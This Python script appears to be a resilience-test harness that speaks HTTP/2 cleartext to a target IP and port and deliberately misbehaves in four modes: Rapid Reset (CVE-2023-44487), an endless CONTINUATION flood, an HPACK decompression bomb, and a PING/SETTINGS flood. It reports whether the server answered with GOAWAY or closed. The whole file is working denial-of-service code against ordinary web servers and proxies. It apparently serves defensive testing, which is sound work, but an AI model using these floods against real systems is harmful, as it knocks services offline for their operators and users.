"""HTTP/2 abuse, run INSIDE a pod (`ip netns exec ... python3 h2abuse.py MODE
IP PORT`): speaks h2c with prior knowledge and misbehaves on purpose. Prints
one JSON line: {"goaway": bool, "error_code": int|null, "closed": bool,
"sent": frames sent, "responses": HEADERS frames received, "error": str}.

Modes:
  rapid-reset  HEADERS then RST_STREAM at once, for many streams (CVE-2023-44487)
  continuation a HEADERS without END_HEADERS followed by endless CONTINUATIONs
  hpack-bomb   one large header value in the dynamic table, then many
               references to it (a small input that decodes huge)
  ping-flood   PINGs and SETTINGS as fast as possible without ever reading
"""
import json
import socket
import struct
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONT = 0, 1, 3, 4, 6, 7, 9


def frame(t, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def req_headers(enc, extra=()):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"),
                       (":authority", "web")] + list(extra))


def read_frames(s, until_s):
    """Reads frames until the peer closes or until_s passes."""
    buf, res = b"", {"goaway": False, "error_code": None, "closed": False, "responses": 0}
    s.settimeout(0.2)
    end = time.monotonic() + until_s
    while time.monotonic() < end:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            res["closed"] = True
            break
        if not d:
            res["closed"] = True
            break
        buf += d
        while len(buf) >= 9:
            ln = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + ln:
                break
            t, payload = buf[3], buf[9:9 + ln]
            buf = buf[9 + ln:]
            if t == GOAWAY and len(payload) >= 8:
                res["goaway"] = True
                res["error_code"] = struct.unpack(">I", payload[4:8])[0]
            elif t == HEADERS:
                res["responses"] += 1
    return res


def main():
    mode, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    s = socket.create_connection((ip, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    enc = Encoder()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    sent, err = 0, ""
    try:
        if mode == "rapid-reset":
            sid = 1
            for _ in range(5000):
                s.sendall(frame(HEADERS, 0x5, sid, req_headers(enc)) +
                          frame(RST, 0, sid, struct.pack(">I", 8)))
                sid += 2
                sent += 2
        elif mode == "continuation":
            s.sendall(frame(HEADERS, 0x1, 1, req_headers(enc)))   # END_STREAM, no END_HEADERS
            junk = enc.encode([("x-junk", "a" * 200)])
            for _ in range(20000):
                s.sendall(frame(CONT, 0, 1, junk))
                sent += 1
        elif mode == "hpack-bomb":
            big = "b" * 4000
            first = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"),
                                (":authority", "web"), ("x-bomb", big)])
            s.sendall(frame(HEADERS, 0x5, 1, first))
            # indexed references to the dynamic-table entry: 1 byte each, 4 KB decoded each
            idx = 62   # the first dynamic entry (x-bomb was added last)
            ref = bytes([0x80 | 0x3f, idx - 63]) if idx >= 127 else bytes([0x80 | idx])
            block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"),
                                (":authority", "web")]) + ref * 10000
            sid = 3
            for _ in range(50):
                s.sendall(frame(HEADERS, 0x5, sid, block[:16000]))
                sid += 2
                sent += 1
        elif mode == "ping-flood":
            s.setblocking(False)
            pings = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, b"")) * 200
            end = time.monotonic() + 5
            while time.monotonic() < end:
                try:
                    s.send(pings)
                    sent += 400
                except BlockingIOError:
                    time.sleep(0.01)   # the agent stopped reading: that is the point
            s.setblocking(True)
        else:
            raise SystemExit(f"unknown mode {mode}")
    except OSError as e:
        err = f"{type(e).__name__}: {e}"
    res = read_frames(s, 3)
    res.update({"sent": sent, "error": err})
    if err:
        res["closed"] = True
    print(json.dumps(res))


if __name__ == "__main__":
    main()
